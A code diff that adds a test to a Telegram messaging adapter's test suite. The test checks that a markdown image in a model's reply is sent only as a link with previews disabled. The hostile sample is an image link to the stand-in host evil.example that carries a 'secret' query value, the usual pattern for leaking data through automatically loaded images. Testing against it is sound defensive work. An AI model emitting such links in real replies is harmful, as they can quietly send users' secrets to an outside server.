@@ -41,6 +41,30 @@ describe("sending to Telegram", () => {
     });
   });
 
+  it("shows a picture of the model's as a link to press, with no preview, sent, edited or as plain text", async ({
+    expect,
+  }) => {
+    const hostile = "![x](https://evil.example/?q=secret)";
+    const href = '<a href="https://evil.example/?q=secret">x</a>';
+    const quiet = { link_preview_options: { is_disabled: true } };
+    const ref = await send(person, hostile);
+    expect(bodyOf("sendMessage")).toMatchObject({ text: href, ...quiet });
+    await telegram.edit?.(person, ref, hostile.replace("secret", "more"), account, io);
+    expect(bodyOf("editMessageText")).toMatchObject({
+      text: href.replace("secret", "more"),
+      ...quiet,
+    });
+    fake.addFault({
+      kind: "refuse",
+      code: 400,
+      description: "Bad Request: can't parse entities",
+    });
+    await send(person, hostile);
+    expect(bodyOf("sendMessage")).toMatchObject({ text: hostile, ...quiet });
+    const methods = new Set(fake.calls.map(({ method }) => method));
+    expect([...methods].sort()).toEqual(["editMessageText", "sendMessage"]);
+  });
+
   it("answers in the topic, to the message, also where that is gone", async ({ expect }) => {
     await send(topic, "a");
     expect(bodyOf("sendMessage")).toMatchObject({
